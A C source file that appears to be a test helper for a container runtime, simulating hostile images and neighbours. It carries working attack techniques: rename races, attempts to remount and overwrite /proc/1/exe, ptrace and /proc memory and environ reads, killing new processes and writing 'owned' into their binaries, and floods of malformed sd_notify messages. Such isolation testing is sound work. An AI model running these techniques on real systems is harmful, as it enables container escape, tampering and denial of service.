// SPDX-License-Identifier: GPL-2.0-or-later
// attack.c - what hostile images and neighbours do; a static program that tests run inside and beside containers
//
//   attack swap A B SECONDS      exchanges two names as fast as it can: "swaps=N"
//   attack exe PATH...           tries to get at the file behind a link such as /proc/1/exe, in every known way
//   attack trace PID             tries to trace a process, and to read its memory
//   attack hunt SECONDS          goes after each process that appears, before it has become a program of /bin: "seen=N", and of those
//                                "traced=N", "read=N" (memory, root), "leaked=N" (descriptors from 3 on), "written=N" (its binary)
//   attack notify SECONDS TEXT   sends to the socket of sd_notify(3) what no service would, for so long, and then TEXT, unless it is empty:
//                                "sent=N". With SECONDS 0 four children do so, for a minute, and nobody waits for them
//   attack open                  what is open from descriptor 3 on: "open=N"
//   attack spew MEBIBYTES        writes as much to stdout: "spew=ok"
//   attack into FILE ACTION...   any of these, which says to FILE what it has to say
//
// Each try prints "name=ok" or "name=ERRNO". Where success would do harm, the file must be one that may be harmed.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef MS_REMOUNT // <sys/mount.h> collides with <linux/mount.h>
#define MS_REMOUNT 32
#define MS_BIND 4096
#endif

enum { RENAME_SWAP = 2 }; // RENAME_EXCHANGE

static void say(const char *name, long result)
{
	printf("%s=%s\n", name, result >= 0 ? "ok" : strerrorname_np(errno));
}

static long number(const char *text)
{
	char *end;
	long value = strtol(text, &end, 10);

	if (end == text || *end || value < 0 || value > INT_MAX) {
		fprintf(stderr, "attack: '%s' isn't a number\n", text);
		exit(2);
	}
	return value;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int act_swap(char **args)
{
	double end = now() + (double)number(args[2]);
	unsigned long swaps = 0;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (now() < end)
		for (int i = 0; i < 1000; i++)
			swaps += syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_SWAP) == 0;
	printf("swaps=%lu\n", swaps);
	return 0;
}

// O_TRUNC makes the kernel look at the mount and the permissions before it says that the file is being executed.
static int act_exe(char **args)
{
	for (; *args; args++) {
		struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
		char path[64];
		int fd = open(*args, O_PATH | O_CLOEXEC);

		say("find", fd);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		say("remount", syscall(SYS_mount, "none", path, NULL, MS_REMOUNT | MS_BIND, NULL));
		say("setattr", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)));
		say("write", open(*args, O_WRONLY | O_TRUNC | O_CLOEXEC));
		say("reopen", open(path, O_WRONLY | O_TRUNC | O_CLOEXEC));
		say("truncate", truncate(*args, 0));
		say("chmod", chmod(*args, 0777));
	}
	return 0;
}

static int act_trace(char **args)
{
	pid_t pid = (pid_t)number(args[0]);
	char path[64], target[64];

	say("seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	say("mem", open(path, O_RDONLY | O_CLOEXEC));
	snprintf(path, sizeof(path), "/proc/%d/root/", pid);
	say("root", open(path, O_RDONLY | O_CLOEXEC));
	snprintf(path, sizeof(path), "/proc/%d/fd/0", pid);
	say("fd", readlink(path, target, sizeof(target)));
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	say("environ", open(path, O_RDONLY | O_CLOEXEC));
	return 0;
}

static struct hunt {
	unsigned int seen, traced, read, leaked, written;
} hunted;

enum { PIDS_MAX = 1 << 16, HELD_MAX = 16, FDS_MAX = 32 };

// It is still what made it, or nobody may know: a program of the image's is in /bin.
static bool is_early(pid_t pid)
{
	char path[64], target[256] = "";

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t size = readlink(path, target, sizeof(target) - 1);
	return size < 0 ? errno == EACCES || errno == EPERM : strncmp(target, "/bin/", 5) != 0;
}

// Who was still early when it could be traced stops as such.
static void hunt_trace(pid_t pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, (void *)PTRACE_O_EXITKILL) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	hunted.traced += is_early(pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void hunt_read(pid_t pid)
{
	static const char *const files[] = { "mem", "root/", "cwd/", "environ", "maps" };
	char path[64], target[256];

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		hunted.read += fd >= 0 && is_early(pid);
		if (fd >= 0)
			close(fd);
	}
	for (int fd = 3; fd < FDS_MAX; fd++) { // what it runs in the end has three
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		hunted.leaked += readlink(path, target, sizeof(target)) > 0;
	}
}

static int held[HELD_MAX];
static unsigned int held_count;

// While it is executed no file can be written, so who executes it is killed.
static void hunt_binary(pid_t pid)
{
	char path[64];

	if (held_count == HELD_MAX || !is_early(pid))
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || !is_early(pid))
		return;
	held[held_count++] = fd;
	kill(pid, SIGKILL);
}

static void write_binaries(void)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];

	for (unsigned int i = 0; i < held_count; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		syscall(SYS_mount, "none", path, NULL, MS_REMOUNT | MS_BIND, NULL);
		syscall(SYS_mount_setattr, held[i], "", AT_EMPTY_PATH, &attr, sizeof(attr));
		int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		hunted.written += fd >= 0 && write(fd, "owned", 5) > 0;
		if (fd >= 0)
			close(fd);
	}
}

// Calls for each process; those that there are at first aren't looked at again.
static void each_process(bool *known, void (*act)(pid_t pid))
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		long pid = strtol(entry->d_name, NULL, 10);
		if (pid > 0 && pid < PIDS_MAX && !known[pid])
			act ? act((pid_t)pid) : (void)(known[pid] = true);
	}
	if (dir)
		closedir(dir);
}

static void hunt_one(pid_t pid)
{
	static bool seen[PIDS_MAX];

	hunted.seen += !seen[pid];
	seen[pid] = true;
	hunt_read(pid);
	hunt_trace(pid);
	hunt_binary(pid);
}

static int act_hunt(char **args)
{
	static bool known[PIDS_MAX];
	double end = now() + (double)number(args[0]);

	each_process(known, NULL);
	printf("hunting\n");
	fflush(stdout);
	while (now() < end) {
		each_process(known, hunt_one);
		write_binaries();
	}
	printf("seen=%u\ntraced=%u\nread=%u\nleaked=%u\nwritten=%u\n", hunted.seen, hunted.traced, hunted.read, hunted.leaked,
	       hunted.written);
	return 0;
}

static int notify_socket(struct sockaddr_un *address)
{
	const char *path = getenv("NOTIFY_SOCKET");

	if (!path || strlen(path) >= sizeof(address->sun_path)) {
		fprintf(stderr, "attack: no NOTIFY_SOCKET\n");
		exit(2);
	}
	*address = (struct sockaddr_un){ .sun_family = AF_UNIX };
	memcpy(address->sun_path, path, strlen(path));
	return socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
}

enum { NOTIFY_MAX = 160 << 10, NOTIFY_FDS = 253, FLOOD_SECONDS = 60, FLOODERS = 4 };

// With as many descriptors as one message can have.
static bool notify_send(int s, const struct sockaddr_un *to, const char *text, size_t size, size_t descriptors)
{
	static union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int) * NOTIFY_FDS)];
	} control;
	struct iovec iov = { .iov_base = (char *)text, .iov_len = size };
	struct msghdr msg = { .msg_name = (void *)to, .msg_namelen = sizeof(*to), .msg_iov = &iov, .msg_iovlen = 1 };

	if (descriptors) { // all of them stdin
		msg.msg_control = &control;
		msg.msg_controllen = CMSG_SPACE(sizeof(int) * descriptors);
		control.header.cmsg_level = SOL_SOCKET;
		control.header.cmsg_type = SCM_RIGHTS;
		control.header.cmsg_len = CMSG_LEN(sizeof(int) * descriptors);
	}
	return sendmsg(s, &msg, MSG_NOSIGNAL) >= 0;
}

static unsigned long notify_attack(double end)
{
	static const char *const texts[] = { "",          "\n",        "READY=",    "READY=10",   "xREADY=1", "READY=1x\nREADY",
					     "MAINPID=1", "BARRIER=1", "FDSTORE=1", "STOPPING=1", "=\n=\n=",  "ready=1" };
	static char huge[NOTIFY_MAX];
	static const size_t sizes[] = { 1, 4095, 4096, 4097, 65535, 65536, NOTIFY_MAX };
	struct sockaddr_un to;
	unsigned long sent = 0;
	int s = notify_socket(&to);

	memset(huge, 'A', sizeof(huge));
	for (size_t i = 0; now() < end; i++) {
		const char *text = texts[i % (sizeof(texts) / sizeof(texts[0]))];
		sent += notify_send(s, &to, text, strlen(text), i % 2 ? NOTIFY_FDS : 0);
		sent += notify_send(s, &to, "READY\0=1\0\nREADY=1", 9, 1);
		huge[i % sizeof(huge)] = (char)i | 1;
		sent += notify_send(s, &to, huge, sizes[i % (sizeof(sizes) / sizeof(sizes[0]))], i % 3);
	}
	return sent;
}

static int act_notify(char **args)
{
	const long seconds = number(args[0]);
	struct sockaddr_un to;

	for (int i = 0; seconds == 0 && i < FLOODERS; i++) {
		if (fork() != 0)
			continue;
		notify_attack(now() + FLOOD_SECONDS);
		_exit(0);
	}
	printf("sent=%lu\n", seconds ? notify_attack(now() + (double)seconds) : 0);
	fflush(stdout);
	int s = notify_socket(&to);
	if (*args[1])
		say("ready", notify_send(s, &to, args[1], strlen(args[1]), 1) ? 0 : -1);
	return 0;
}

static int act_open(char **args)
{
	int count = 0;

	(void)args;
	for (int fd = 3; fd < FDS_MAX; fd++)
		count += fcntl(fd, F_GETFD) >= 0;
	printf("open=%d\n", count);
	return 0;
}

static int act_spew(char **args)
{
	static char block[1 << 20];
	bool good = true;

	memset(block, 'x', sizeof(block));
	for (long i = number(args[0]); i > 0 && good; i--)
		for (size_t at = 0; at < sizeof(block) && good;) {
			ssize_t n = write(STDOUT_FILENO, block + at, sizeof(block) - at);
			good = n > 0;
			at += (size_t)(good ? n : 0);
		}
	say("spew", good ? 0 : -1);
	return good ? 0 : 1;
}

static int act(char **words);

static int act_into(char **args)
{
	fflush(stdout);
	int fd = open(args[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
	if (fd < 0 || dup2(fd, STDOUT_FILENO) < 0 || close(fd) < 0) {
		perror("attack: open");
		return 2;
	}
	return act(args + 1);
}

static const struct {
	const char *name;
	int (*act)(char **args);
	int arguments;
} actions[] = {
	{ "swap", act_swap, 3 }, { "exe", act_exe, 1 },       { "trace", act_trace, 1 }, { "hunt", act_hunt, 1 },
	{ "into", act_into, 2 }, { "notify", act_notify, 2 }, { "open", act_open, 0 },   { "spew", act_spew, 1 },
};

static int act(char **words)
{
	int count = 0;

	while (words[count])
		count++;
	for (size_t i = 0; count && i < sizeof(actions) / sizeof(actions[0]); i++)
		if (!strcmp(words[0], actions[i].name) && count - 1 >= actions[i].arguments)
			return actions[i].act(words + 1);
	fprintf(stderr,
		"usage: attack swap A B SECONDS | exe PATH... | trace PID | hunt SECONDS | notify SECONDS TEXT | open | spew MEBIBYTES | "
		"into FILE ACTION...\n");
	return 2;
}

int main(int argc, char **argv)
{
	return argc < 1 ? 2 : act(argv + 1);
}
